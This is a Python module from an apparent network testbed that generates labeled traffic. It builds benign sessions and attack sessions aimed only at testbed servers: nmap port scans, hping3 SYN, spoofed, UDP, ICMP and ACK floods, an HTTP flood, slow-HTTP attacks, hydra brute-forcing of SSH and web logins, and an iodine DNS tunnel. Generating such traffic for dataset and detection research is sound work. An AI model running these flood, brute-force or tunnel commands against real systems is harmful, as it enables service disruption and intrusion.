"""Activities of actors: which tools they run, at which rates, and for how long.

A function such as `_browse(setting)` returns the command (argv) of one session of its activity. It
draws what varies from session to session.

Each attack is limited in rate and packets, and stays within the namespaces of a `Testbed`.
"""

from __future__ import annotations

import string
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from random import Random

from sfcperf.environment.tools import tool
from sfcperf.plugins import Requirement
from sfcperf.traffic.servers import (
    IPERF_PORTS,
    PRIVATE,
    SSH_PORT,
    TUNNEL_SECRET,
    TUNNEL_SERVER,
    TUNNEL_ZONE,
    WEB_PORT,
    ZONE,
    Servers,
)

_WORDS = 200
"""Most passwords that a brute-force attack tries."""
_QUERIES = 400
"""Number of queries in the list of a `resolve` session."""


@dataclass(frozen=True)
class Setting:
    """What the command of a session may depend on."""

    random: Random
    """Random generator of the session."""
    servers: Servers
    folder: Path
    """Folder for the files of the session; it exists."""
    duration_s: float
    """Length of the session."""
    iperf_port: int
    """Port of the iperf3 server that the session may use."""


@dataclass(frozen=True)
class Activity:
    """A kind of session: what its actor runs, how long and how often."""

    name: str
    """Name of the activity. For an attack, it is the label of its packets."""
    attack: bool
    """Whether the activity is an attack; otherwise it is benign."""
    command: Callable[[Setting], list[str]]
    """Function that makes the command of a session."""
    duration_s: tuple[float, float]
    """Shortest and longest session."""
    sessions_per_minute: int
    """Sessions of all actors together, per minute of the trace; a trace has at least one."""
    spoofed: bool = False
    """Whether the packets have random source addresses, so that the actor's address does not tell
    their label. They must be TCP to WEB_PORT of the web server: such packets get this label, in
    both directions, if their other address is of no actor."""


def _rate(setting: Setting, low: int, high: int) -> tuple[int, int]:
    """Draw a rate per second between `low` and `high`. Returns the rate, and how many packets or
    connections the session has at this rate, at least 1."""
    pps = setting.random.randint(low, high)
    return pps, max(1, int(pps * setting.duration_s))


# --- benign ---


def _browse(setting: Setting) -> list[str]:
    rate, count = _rate(setting, 2, 8)
    page = setting.random.choice(["1k", "1k", "8k", "8k", "40k"])
    calls = setting.random.randint(1, 6)
    return [
        "httperf", "--hog", "--server", setting.servers.web, "--port", str(WEB_PORT),
        "--uri", f"/{page}", "--rate", str(rate), "--num-conns", str(count),
        "--num-calls", str(calls),
    ]  # fmt: skip


def _download(setting: Setting) -> list[str]:
    limit = setting.random.randint(200, 500)
    url = f"http://{setting.servers.web}/{setting.random.choice(['200k', '1m'])}"
    return ["curl", "-q", "-s", "--limit-rate", f"{limit}k", "-o", "/dev/null", url]


def _iperf(setting: Setting, *more: str) -> list[str]:
    """Return a command of iperf3 with the further options `more`."""
    seconds = str(max(1, round(setting.duration_s)))
    argv = ["iperf3", "-c", setting.servers.iperf, "-p", str(setting.iperf_port), "-t", seconds]
    return [*argv, *more]


def _tcp_stream(setting: Setting) -> list[str]:
    reverse = ["-R"] if setting.random.random() < 0.5 else []
    return _iperf(setting, "-b", f"{setting.random.randint(1, 3)}M", *reverse)


def _udp_stream(setting: Setting) -> list[str]:
    size = setting.random.choice([160, 400, 1200])
    rate = setting.random.randint(100, 1500)
    return _iperf(setting, "-u", "-b", f"{rate}K", "-l", str(size))


def _resolve(setting: Setting) -> list[str]:
    """Return a command of dnsperf, which asks for random names of the zone."""
    queries = setting.folder / "queries.txt"
    names = [_word(setting.random, 4, 10) for _ in range(_QUERIES)]
    kinds = ("A", "A", "A", "AAAA", "MX")
    lines = [f"{name}.{ZONE} {setting.random.choice(kinds)}\n" for name in names]
    queries.write_text("".join(lines))
    rate = setting.random.randint(3, 15)
    return [
        "dnsperf", "-s", setting.servers.dns, "-d", str(queries), "-Q", str(rate), "-l",
        str(max(1, round(setting.duration_s))), "-c", str(setting.random.randint(1, 8)),
    ]  # fmt: skip


def _log_in(setting: Setting) -> list[str]:
    """Return a command of ssh that logs in with the key, and gets random bytes from the server."""
    return [
        "ssh", "-F", "none", "-i", str(setting.servers.ssh_key), "-o", "BatchMode=yes", "-o",
        "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-p", str(SSH_PORT),
        f"root@{setting.servers.ssh}",
    ]  # fmt: skip


def _ping(setting: Setting) -> list[str]:
    interval = setting.random.choice([0.2, 0.5, 1])
    server = setting.random.choice([setting.servers.web, setting.servers.ssh, setting.servers.dns])
    count = max(1, int(setting.duration_s / interval))
    return ["ping", "-n", "-q", "-i", str(interval), "-c", str(count), server]


# --- attacks ---


def _scan(setting: Setting, kind: str, ports: int, low: int, high: int) -> list[str]:
    """Return a command of nmap that scans ports of one server. `kind` is nmap's option, `ports` how
    far the last port is from the first at most, and the rate is between `low` and `high` packets
    per second."""
    rate, count = _rate(setting, low, high)
    first = setting.random.randint(1, 3000)
    target = setting.random.choice([setting.servers.web, setting.servers.ssh])
    return [
        "nmap", kind, "-n", "-Pn", "--max-retries", "1", "--max-rate", str(rate), "-p",
        f"{first}-{first + min(ports, count)}", target,
    ]  # fmt: skip


def _flood(setting: Setting, *mode: str, low: int = 600, high: int = 1500) -> list[str]:
    """Return a command of hping3 that floods the web server. `mode` are hping3's options about the
    packets, and the rate is between `low` and `high` packets per second."""
    rate, count = _rate(setting, low, high)
    # -i uN: N microseconds between packets.
    pace = ["-i", f"u{1_000_000 // rate}", "-c", str(count)]
    return ["hping3", "-n", "-q", *mode, *pace, setting.servers.web]


def _http_flood(setting: Setting) -> list[str]:
    count = int(setting.random.randint(200, 400) * setting.duration_s)
    page = setting.random.choice(["1k", "8k"])
    url = f"http://{setting.servers.web}/{page}"
    return ["ab", "-q", "-n", str(count), "-c", str(setting.random.randint(10, 40)), url]


def _slow_http(setting: Setting) -> list[str]:
    mode = setting.random.choice(["-H", "-B"])
    return [
        "slowhttptest", mode, "-c", str(setting.random.randint(40, 100)), "-i", "1", "-r", "30",
        "-l", str(round(setting.duration_s)), "-x", "20", "-p", "2", "-u",
        f"http://{setting.servers.web}/",
    ]  # fmt: skip


def _brute_force(setting: Setting) -> list[str]:
    """Return a command of hydra that tries random passwords on the SSH server or the web server."""
    words = setting.folder / "passwords.txt"
    words.write_text("".join(f"{_word(setting.random, 6, 12)}\n" for _ in range(_WORDS)))
    # hydra's children would outlive it, so it runs in a PID namespace that ends with it. It leaves
    # a file in the folder where it is started, so that is the session's folder.
    hydra = [
        "unshare",
        "--pid",
        "--fork",
        "--kill-child",
        "env",
        "-C",
        str(setting.folder),
        "hydra",
        "-q",
        "-I",
        "-l",
        "admin",
        "-P",
        str(words),
    ]
    if setting.random.random() < 0.5:
        return [*hydra, "-t", "4", f"ssh://{setting.servers.ssh}"]
    return [*hydra, "-t", "2", f"http-get://{setting.servers.web}/{PRIVATE}/"]


def _tunnel(setting: Setting) -> list[str]:
    """Return a command that opens a DNS tunnel, waits until it is there, and sends echo requests
    through it until the session ends."""
    iodine = ["setpriv", "--pdeathsig", "KILL", "iodine", "-f", "-r", "-m", "200"]
    iodine += ["-P", TUNNEL_SECRET]
    size, interval = setting.random.randint(50, 150), setting.random.choice(["0.05", "0.1"])
    script = f"""
{" ".join(iodine)} {setting.servers.tunnel} {TUNNEL_ZONE} &
until ip -4 -o address show dev dns0 2>/dev/null | grep -q inet; do sleep 0.1; done
exec ping -n -q -i {interval} -s {size} {TUNNEL_SERVER}
"""
    return ["sh", "-c", script]


def _word(random: Random, low: int, high: int) -> str:
    """Draw a word of `low` to `high` small letters."""
    return "".join(random.choices(string.ascii_lowercase, k=random.randint(low, high)))


ACTIVITIES: Sequence[Activity] = (
    Activity("browse", False, _browse, (4, 12), 18),
    Activity("download", False, _download, (2, 6), 6),
    Activity("tcp-stream", False, _tcp_stream, (3, 6), 3),
    Activity("udp-stream", False, _udp_stream, (3, 8), 4),
    Activity("resolve", False, _resolve, (4, 12), 8),
    Activity("log-in", False, _log_in, (1, 2), 12),
    Activity("ping", False, _ping, (3, 10), 5),
    Activity("syn-scan", True, lambda s: _scan(s, "-sS", 2000, 200, 600), (2, 4), 2),
    Activity("connect-scan", True, lambda s: _scan(s, "-sT", 1000, 100, 400), (2, 4), 2),
    Activity("udp-scan", True, lambda s: _scan(s, "-sU", 600, 80, 200), (2, 4), 2),
    Activity("syn-flood", True, lambda s: _flood(s, "-S", "-p", str(WEB_PORT)), (2, 4), 2),
    Activity(
        "spoofed-syn-flood", True,
        lambda s: _flood(s, "-S", "-p", str(WEB_PORT), "--rand-source"), (1, 2), 1, spoofed=True,
    ),
    Activity(
        "udp-flood", True, lambda s: _flood(s, "--udp", "-p", "++1024", "-d", "300"), (2, 4), 2
    ),
    Activity("icmp-flood", True, lambda s: _flood(s, "--icmp", "-d", "56"), (2, 4), 2),
    Activity("ack-flood", True, lambda s: _flood(s, "-A", "-p", str(WEB_PORT)), (2, 4), 2),
    Activity("http-flood", True, _http_flood, (2, 4), 2),
    Activity("slow-http", True, _slow_http, (6, 10), 2),
    Activity("brute-force", True, _brute_force, (5, 10), 3),
    Activity("dns-tunnel", True, _tunnel, (6, 10), 2),
)  # fmt: skip
"""All activities. Their sessions are spread over the whole time of a trace."""

PARALLEL_STREAMS = len(IPERF_PORTS)
"""Number of iperf3 sessions that can run at a time, each with a server of its own."""

# Command, its Debian package, and its options that print a version or a help.
_COMMANDS: Sequence[tuple[str, str, Sequence[str]]] = (
    ("ab", "apache2-utils", ["-V"]),
    ("curl", "curl", ["--version"]),
    ("dnsmasq", "dnsmasq-base", ["--version"]),
    ("dnsperf", "dnsperf", ["-h"]),
    ("ethtool", "ethtool", ["--version"]),
    ("hping3", "hping3", ["--version"]),
    ("httperf", "httperf", ["--version"]),
    ("hydra", "hydra", ["-h"]),
    ("iodine", "iodine", ["-v"]),
    ("iperf3", "iperf3", ["--version"]),
    ("nginx", "nginx", ["-v"]),
    ("nmap", "nmap", ["--version"]),
    ("ping", "iputils-ping", ["-V"]),
    ("slowhttptest", "slowhttptest", ["-h"]),
    ("ssh", "openssh-client", ["-V"]),
    ("/usr/sbin/sshd", "openssh-server", ["-V"]),
    ("tcpdump", "tcpdump", ["--version"]),
)


def requirements() -> list[Requirement]:
    """Require all tools and servers that make traffic, by their Debian packages."""
    return [tool(name, package, [name, *arguments]) for name, package, arguments in _COMMANDS]
